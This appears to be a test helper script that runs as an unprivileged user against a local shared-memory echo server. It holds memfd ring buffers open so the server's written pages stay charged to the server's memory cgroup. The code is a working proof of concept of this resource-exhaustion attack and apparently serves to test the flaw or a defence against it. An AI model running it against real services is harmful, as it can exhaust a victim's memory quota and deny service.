"""Run as nobody by t_rt_memcg_charge.sh: K CARRIER connections to an echo server at PORT, each with a RING-byte ring; pushes
RING bytes through each (the server writes RING bytes into the S2C ring of nobody's memfd),
then closes everything but the memfds, prints "HOLDING K", 2 s later "SERVER_PAGES <MiB>" (what
is still allocated of the server's rings in those memfds), and sleeps HOLD seconds.
Usage: memcharge.py PORT K RING HOLD"""
import ctypes, mmap, os, socket, struct, sys, time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import colo_attack as ca
port, k, ring, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
LIBC = ctypes.CDLL(None, use_errno=True)
size = ca.segment_size(ring, 0, 0)
blk = (size - ca.HEADER) // 2
C2S, S2C, DATA = ca.HEADER, ca.HEADER + blk, 1024
keep = []
chunk = b"z" * (1 << 20)
for i in range(k):
    tcp = socket.socket()
    while True:
        tcp = socket.socket(); tcp.bind(("127.0.0.1", 0))
        if tcp.getsockname()[1] % 2: break
    fd = ca.make_segment(ring, 0, 0, ca.CLAIM_OFFERED, tcp.getsockname(), ("127.0.0.1", port))
    bells = ca.doorbells()
    s = ca.rendezvous(port)
    ca.hello(s, ca.CARRIER, fd, bells)
    tcp.connect(("127.0.0.1", port))
    a = ca.answer(s)
    if a != "WELCOME":
        print("answer", a); sys.exit(1)
    m = mmap.mmap(fd, size)
    struct.pack_into("<I", m, C2S + 12, ring)  # our ring_size: the whole capacity
    bell = socket.socket(fileno=bells[0])
    sent = got = 0
    t_end = time.time() + 30
    while got < ring and time.time() < t_end:
        head = struct.unpack_from("<Q", m, C2S)[0]; tail = struct.unpack_from("<Q", m, C2S + 128)[0]
        room = ring - (head - tail)
        if sent < ring and room >= len(chunk):
            off = C2S + DATA + head % ring
            m[off:off + len(chunk)] = chunk
            struct.pack_into("<Q", m, C2S, head + len(chunk)); sent += len(chunk)
        sh = struct.unpack_from("<Q", m, S2C)[0]
        if sh != got:
            struct.pack_into("<Q", m, S2C + 128, sh); got = sh
        w = struct.unpack_from("<I", m, 256)[0]
        struct.pack_into("<I", m, 256, 0)
        if w & 2:
            addr = ctypes.addressof(ctypes.c_char.from_buffer(m, 256))
            LIBC.syscall(202, ctypes.c_void_p(addr), 1, 0x7FFFFFFF, None, None, 0)
        try: bell.send(b"r", socket.MSG_DONTWAIT)
        except OSError: pass
        time.sleep(0.0005)
    m.close(); s.close(); tcp.close(); bell.close(); os.close(bells[1])
    keep.append(fd)
    print("conn", i, "echoed", got, flush=True)
print("HOLDING", k, flush=True)
# What the server wrote into our memfds (its S2C rings), still allocated once it let go of them:
# those pages are charged to the server's memory cgroup for as long as we keep the memfds.
time.sleep(2)
held = sum(ca.allocated(fd, S2C + DATA, S2C + DATA + ring) for fd in keep)
print("SERVER_PAGES", held >> 20, flush=True)
time.sleep(hold)
